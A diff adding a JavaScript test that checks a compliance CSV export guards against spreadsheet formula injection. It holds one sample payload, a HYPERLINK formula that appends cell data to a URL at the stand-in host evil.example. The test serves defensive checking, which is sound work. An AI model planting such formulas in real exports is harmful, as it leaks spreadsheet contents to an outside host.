@@ -284,6 +284,20 @@ test('the compliance view counts reporting hosts, scans and findings; CSV export
   assert.match(csv.text, /pq-tamthanh,UBND xã Tam Thanh,/);
 });
 
+test('the compliance CSV defuses formulas in every cell (one CSV writer for all)', T, async () => {
+  const name = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào")';
+  cli(['admin', 'org', 'add', '--db', srv.db, '--code', 'pq-formula', '--name', name, '--kind', 'agency',
+    '--parent', 'pq']);
+  const csv = await coord.get('/api/v1/compliance?format=csv');
+  assert.equal(csv.status, 200, csv.text);
+  const line = csv.text.split('\r\n').find((l) => l.startsWith('pq-formula,'));
+  assert.ok(line, csv.text);
+  assert.ok(line.startsWith(`pq-formula,"'=HYPERLINK(""http://evil.example/?""&A1,""Bấm vào"")",`), line);
+  for (const l of csv.text.split('\r\n')) {
+    for (const cellStart of l.split(',')) assert.ok(!/^[=+@]/.test(cellStart), `unguarded cell in ${l}`);
+  }
+});
+
 test('ungcuu import on the command line: feeds and a bad file', T, () => {
   const feed = join(work, 'feed.json');
   writeFileSync(feed, osvFeed('99:1'));
